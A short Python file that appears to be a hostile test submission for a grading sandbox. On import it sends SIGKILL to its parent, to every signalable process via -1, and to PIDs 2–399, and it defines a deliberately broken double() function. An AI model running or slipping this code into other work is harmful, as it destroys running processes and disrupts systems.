"""Kills every process that it can."""

# ruff: noqa

import contextlib
import os

for process in (os.getppid(), -1, *range(2, 400)):
    if process != os.getpid() and process != 0:
        with contextlib.suppress(OSError):
            os.kill(process, 9)
            print(LOOT, "killed", process)


def double(x):
    return 0 * np.asarray(x)
